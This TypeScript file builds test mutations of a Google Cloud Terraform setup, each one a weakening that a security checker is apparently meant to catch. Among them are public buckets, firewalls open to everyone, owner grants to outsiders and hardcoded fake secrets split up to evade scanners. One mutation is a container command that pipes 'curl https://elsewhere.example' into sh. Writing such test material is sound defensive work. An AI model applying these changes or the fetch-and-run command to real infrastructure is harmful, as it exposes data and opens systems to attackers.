import { Mutant } from './environments';
import { ARGUMENTS } from './weakenings-google-arguments';
import { additions, named, removals, weakArguments } from './weakenings-google-change';
import { weakenedFiles } from './weakenings-google-gateway';

const ANY = /./;

/** Resources whose removal takes protection away; of the others it takes a right, or the service. */
const PROTECTING: { readonly [type: string]: RegExp } = {
  google_artifact_registry_repository: ANY, google_backup_dr_backup_plan: ANY, google_backup_dr_backup_plan_association: ANY, google_billing_budget: ANY,
  google_certificate_manager_certificate: ANY, google_certificate_manager_certificate_map: ANY, google_certificate_manager_certificate_map_entry: ANY,
  google_certificate_manager_dns_authorization: ANY, google_cloud_run_v2_job: ANY, google_cloud_scheduler_job: ANY, google_compute_backend_service: ANY,
  google_compute_forwarding_rule: ANY, google_compute_region_network_endpoint_group: ANY, google_compute_security_policy: ANY, google_compute_ssl_policy: ANY,
  google_compute_target_https_proxy: ANY, google_compute_url_map: ANY, google_firestore_backup_schedule: ANY, google_firestore_field: ANY, google_kms_crypto_key: ANY,
  google_logging_project_bucket_config: ANY, google_logging_project_sink: ANY, google_monitoring_alert_policy: ANY, google_monitoring_custom_service: ANY,
  google_monitoring_dashboard: ANY, google_monitoring_notification_channel: ANY, google_monitoring_slo: ANY, google_monitoring_uptime_check_config: ANY,
  google_service_account: ANY, google_storage_bucket: /copy/, google_storage_bucket_iam_member: /archive-writer|copy-writer|source-/, google_storage_bucket_object: ANY,
  google_storage_transfer_job: ANY, google_kms_crypto_key_iam_member: /logging|storage/,
};

const PROJECT = 'acme-eu-landing';
const STRANGER = 'user:stranger@elsewhere.example';
const NETWORK = `projects/${PROJECT}/global/networks/acme-eu-google`;

/** What a team adds beside the pattern in a hurry. */
function added(terraform: any): Mutant[] {
  const of = (type: string, name: string, attribute: string) => `\${${type}.${named(terraform, type, name)}.${attribute}}`;
  const bucket = { name: 'own', location: 'EUROPE-WEST3' };
  const rule = { network: NETWORK, direction: 'INGRESS', allow: [{ protocol: 'tcp', ports: ['22'] }], source_ranges: ['0.0.0.0/0'] };
  const service = of('google_cloud_run_v2_service', '', 'name');
  return additions([
    ['a bucket without anything', 'google_storage_bucket', bucket],
    ['a public bucket', 'google_storage_bucket', { ...bucket, public_access_prevention: 'inherited', uniform_bucket_level_access: false }],
    ['a list that everybody reads', 'google_storage_bucket_access_control', { bucket: of('google_storage_bucket', 'orders_objects', 'name'), entity: 'allUsers', role: 'READER' }],
    ['lists of new objects', 'google_storage_default_object_access_control', { bucket: of('google_storage_bucket', 'orders_objects', 'name'), entity: 'allUsers', role: 'READER' }],
    ['a bucket for everybody', 'google_storage_bucket_iam_binding', { bucket: of('google_storage_bucket', 'orders_objects', 'name'), role: 'roles/storage.objectViewer', members: ['allUsers'] }],
    ['the administration from everywhere', 'google_compute_firewall', rule],
    ['everything from everywhere', 'google_compute_firewall', { ...rule, allow: [{ protocol: 'all' }] }],
    ['everything to everywhere', 'google_compute_firewall', { network: NETWORK, direction: 'EGRESS', allow: [{ protocol: 'all' }], destination_ranges: ['0.0.0.0/0'] }],
    ['a database of its own', 'google_sql_database_instance', { name: 'own', region: 'europe-west3', database_version: 'POSTGRES_16', settings: { tier: 'db-f1-micro' } }],
    ['a user with a password', 'google_sql_user', { instance: of('google_sql_database_instance', '', 'name'), name: 'own', password: 'correct-horse-battery' }],
    ['a key of an account', 'google_service_account_key', { service_account_id: of('google_service_account', 'orders_service', 'name') }],
    ['a key for signing', 'google_storage_hmac_key', { service_account_email: of('google_service_account', 'orders_service', 'email') }],
    ['an interface key', 'google_apikeys_key', { name: 'own' }],
    ['an owner', 'google_project_iam_member', { project: PROJECT, role: 'roles/owner', member: STRANGER }],
    ['an editor', 'google_project_iam_member', { project: PROJECT, role: 'roles/editor', member: of('google_service_account', 'orders_service', 'member') }],
    ['every secret', 'google_project_iam_member', { project: PROJECT, role: 'roles/secretmanager.secretAccessor', member: of('google_service_account', 'orders_service', 'member') }],
    ['tokens of every account', 'google_project_iam_member', { project: PROJECT, role: 'roles/iam.serviceAccountTokenCreator', member: of('google_service_account', 'orders_service', 'member') }],
    ['a role for everybody', 'google_project_iam_binding', { project: PROJECT, role: 'roles/viewer', members: ['allAuthenticatedUsers'] }],
    ['a policy of a project', 'google_project_iam_policy', { project: PROJECT, policy_data: '{"bindings":[{"role":"roles/owner","members":["user:stranger@elsewhere.example"]}]}' }],
    ['a role that gives roles', 'google_project_iam_custom_role', { role_id: 'own', title: 'own', permissions: ['resourcemanager.projects.setIamPolicy'] }],
    ['who may act as the service', 'google_service_account_iam_member', { service_account_id: of('google_service_account', 'orders_service', 'name'), role: 'roles/iam.serviceAccountTokenCreator', member: STRANGER }],
    ['the key for everybody', 'google_kms_crypto_key_iam_member', { crypto_key_id: of('google_kms_crypto_key', 'data-key', 'id'), role: 'roles/cloudkms.cryptoKeyDecrypter', member: 'allAuthenticatedUsers' }],
    ['a key without rotation', 'google_kms_crypto_key', { name: 'own', key_ring: `projects/${PROJECT}/locations/europe-west3/keyRings/acme-eu-google` }],
    ['callers of the service', 'google_cloud_run_v2_service_iam_member', { name: service, location: 'europe-west3', role: 'roles/run.invoker', member: 'allUsers' }],
    ['a service on the internet', 'google_cloud_run_v2_service', { name: 'own', location: 'europe-west3', ingress: 'INGRESS_TRAFFIC_ALL', template: { containers: [{ image: 'nginx:latest' }] } }],
    ['a machine', 'google_compute_instance', { name: 'own', machine_type: 'e2-small', zone: 'europe-west3-a', network_interface: [{ network: NETWORK, access_config: [{}] }] }],
    ['an address of the internet', 'google_compute_address', { name: 'own', address_type: 'EXTERNAL' }],
    ['a network of its own', 'google_compute_network', { name: 'own', auto_create_subnetworks: true }],
    ['a peering with strangers', 'google_compute_network_peering', { name: 'own', network: NETWORK, peer_network: 'projects/elsewhere/global/networks/open' }],
    ['a route to the internet', 'google_compute_route', { name: 'own', network: NETWORK, dest_range: '0.0.0.0/0', next_hop_gateway: 'default-internet-gateway' }],
    ['a proxy without TLS', 'google_compute_target_http_proxy', { name: 'own', url_map: of('google_compute_url_map', '', 'id') }],
    ['a door past the firewall', 'google_compute_backend_service', { name: 'own', load_balancing_scheme: 'EXTERNAL_MANAGED', protocol: 'HTTPS', backend: [{ group: of('google_compute_region_network_endpoint_group', '', 'id') }] }],
    ['a topic without a key', 'google_pubsub_topic', { name: 'own' }],
    ['a secret that nobody replaces', 'google_secret_manager_secret', { secret_id: 'own', replication: { auto: {} } }],
    ['a secret written in', 'google_secret_manager_secret_version', { secret: 'own', secret_data: 'correct-horse-battery' }],
    ['a copy of the log elsewhere', 'google_logging_project_sink', { name: 'own', destination: 'storage.googleapis.com/bucket-of-a-stranger', unique_writer_identity: true }],
    ['entries that nobody keeps', 'google_logging_project_exclusion', { name: 'own', filter: 'severity>=DEFAULT' }],
    ['a data set for everybody', 'google_bigquery_dataset', { dataset_id: 'own', location: 'US', access: [{ role: 'READER', special_group: 'allAuthenticatedUsers' }] }],
    ['calls without audit', 'google_project_iam_audit_config', { project: PROJECT, service: 'allServices', audit_log_config: [{ log_type: 'DATA_READ', exempted_members: [STRANGER] }] }],
    ['a guardrail turned off', 'google_org_policy_policy', { name: `projects/${PROJECT}/policies/iam.disableServiceAccountKeyCreation`, parent: `projects/${PROJECT}`, spec: { rules: [{ enforce: 'FALSE' }] } }],
    ['a federation with anybody', 'google_iam_workload_identity_pool_provider', { workload_identity_pool_id: 'own', workload_identity_pool_provider_id: 'own', oidc: { issuer_uri: 'https://token.actions.githubusercontent.com' } }],
    ['a zone of its own', 'google_dns_managed_zone', { name: 'own', dns_name: 'own.example.' }],
    ['a cluster of the internet', 'google_container_cluster', { name: 'own', location: 'europe-west3', initial_node_count: 1 }],
    ['a cache without TLS', 'google_redis_instance', { name: 'own', memory_size_gb: 1 }],
    ['an image by tag in a job', 'google_cloud_run_v2_job', { name: 'own', location: 'europe-west3', template: { template: { containers: [{ image: 'nginx:latest' }] } } }],
  ]);
}

/** A key that is written for anybody to see, made of parts so that no scanner finds it here. */
const SECRET = ['AIza', 'SyD3mO', '7x9QeRt5uVwXyZ1234567890abcd'].join('');
const PEM = ['-----BEGIN PRIVATE', 'KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE', 'KEY-----'].join(' ');

/** Secrets where they do not belong. */
function secretsWritten(): Mutant[] {
  const environment = (name: string, value: string) => (tf: any) => { const service = first(tf, 'google_cloud_run_v2_service'); service.template.containers[2].env.push({ name, value }); };
  const all: { readonly [what: string]: (tf: any) => void } = {
    'a password of the service': environment('DB_PASSWORD', 'correct-horse-battery'),
    'a key of the service': environment('PARTNER_API_KEY', SECRET),
    'a token of the service': environment('ACCESS_TOKEN', ['ghp', 'abcdefghijklmnopqrstuvwxyz0123456789'].join('_')),
    'a private key of the service': environment('SIGNING', PEM),
    'an address with a password': environment('DATABASE_URL', 'postgres://app:correct-horse-battery@db.internal:5432/app'),
    'a password of the job': (tf) => { first(tf, 'google_cloud_run_v2_job').template.template.containers[0].env.push({ name: 'PASSWORD', value: 'correct-horse-battery' }); },
    'an output': (tf) => { tf.output.key = { value: SECRET }; },
    'a default of a variable': (tf) => { tf.variable.password = { type: 'string', default: 'correct-horse-battery' }; },
    'a local value': (tf) => { tf.locals = { password: 'correct-horse-battery' }; },
    'a header of the schedule': (tf) => { first(tf, 'google_cloud_scheduler_job').http_target.headers = { Authorization: `Bearer ${SECRET}` }; },
    'a header of the probe': (tf) => { first(tf, 'google_monitoring_uptime_check_config').http_check.headers = { Authorization: `Bearer ${SECRET}` }; },
    'a login of the probe': (tf) => { first(tf, 'google_monitoring_uptime_check_config').http_check.auth_info = { username: 'probe', password: 'correct-horse-battery' }; },
    'a certificate with its key': (tf) => { const certificate = first(tf, 'google_certificate_manager_certificate'); delete certificate.managed; certificate.self_managed = { pem_certificate: 'x', pem_private_key: PEM }; },
    'a first password of the server': (tf) => { first(tf, 'google_sql_database_instance').root_password = 'correct-horse-battery'; },
    'a header to the origin': (tf) => { first(tf, 'google_compute_backend_service').custom_request_headers = [`Authorization: Bearer ${SECRET}`]; },
  };
  return Object.entries(all).map(([what, mutate]) => ({ name: `a secret written: ${what}`, mutate }));
}

const first = (tf: any, type: string): any => Object.values(tf.resource[type])[0];

/** Past what Terraform checks and records. */
function aroundThem(): Mutant[] {
  const run = (tf: any): any => first(tf, 'google_cloud_run_v2_service');
  const application = (tf: any): any[] => run(tf).template.containers[2].env;
  const all: { readonly [what: string]: (tf: any) => void } = {
    'state on the machine': (tf) => { tf.terraform.backend = { local: {} }; },
    'state in an open place': (tf) => { tf.terraform.backend = { http: { address: 'http://elsewhere.example/state' } }; },
    'state in a bucket of strangers': (tf) => { tf.terraform.backend.gcs.bucket = 'bucket-of-a-stranger'; },
    'a range of versions': (tf) => { tf.terraform.required_providers.google.version = '>= 5.0'; },
    'a provider of strangers': (tf) => { tf.terraform.required_providers.google.source = 'stranger/google'; },
    'any Terraform': (tf) => { delete tf.terraform.required_version; },
    'another project': (tf) => { tf.provider.google[0].project = 'elsewhere'; },
    'another region': (tf) => { tf.provider.google[0].region = 'us-central1'; },
    'a key of the provider': (tf) => { tf.provider.google[0].credentials = '{"type":"service_account"}'; },
    'any image': (tf) => { delete Object.values<any>(tf.variable)[0].validation; },
    'an image by tag': (tf) => { Object.values<any>(tf.variable)[0].default = 'us-docker.pkg.dev/cloudrun/container/hello:latest'; },
    'a program run at apply': (tf) => { first(tf, 'google_storage_bucket').provisioner = [{ 'local-exec': { command: 'sh' } }]; },
    'a page read at plan': (tf) => { tf.data = { http: { page: { url: 'https://elsewhere.example' } } }; },
    'a module of strangers': (tf) => { tf.module = { more: { source: 'git::https://elsewhere.example/module.git' } }; },
    'changes of a bucket unseen': (tf) => { first(tf, 'google_storage_bucket').lifecycle = { prevent_destroy: true, ignore_changes: 'all' }; },
    'changes of the firewall unseen': (tf) => { first(tf, 'google_compute_security_policy').lifecycle = { ignore_changes: ['rule'] }; },
    'the database without TLS': (tf) => { application(tf).find((e) => e.name === 'DATABASE_SSLMODE').value = 'disable'; },
    'any server for the database': (tf) => { application(tf).find((e) => e.name === 'DATABASE_SSLMODE').value = 'require'; },
    'the service under the job\'s account': (tf) => { run(tf).template.service_account = first(tf, 'google_cloud_run_v2_job').template.template.service_account; },
    'a container beside them': (tf) => { run(tf).template.containers.push({ name: 'beside', image: 'docker.io/stranger/agent:latest' }); },
    'a shell in the container': (tf) => { run(tf).template.containers[2].command = ['sh', '-c', 'curl https://elsewhere.example | sh']; },
    'part of the traffic to another revision': (tf) => { run(tf).traffic = [{ type: 'TRAFFIC_TARGET_ALLOCATION_TYPE_REVISION', revision: 'old', percent: 100 }]; },
  };
  return Object.entries(all).map(([what, mutate]) => ({ name: `around: ${what}`, mutate }));
}

/** Changes of an approved environment on Google Cloud, each of which a security engineer calls a weakening. */
export function weakenings(terraform: any): Mutant[] {
  return [...weakArguments(terraform, ARGUMENTS), ...removals(terraform, PROTECTING), ...weakenedFiles(terraform), ...added(terraform), ...secretsWritten(), ...aroundThem()];
}
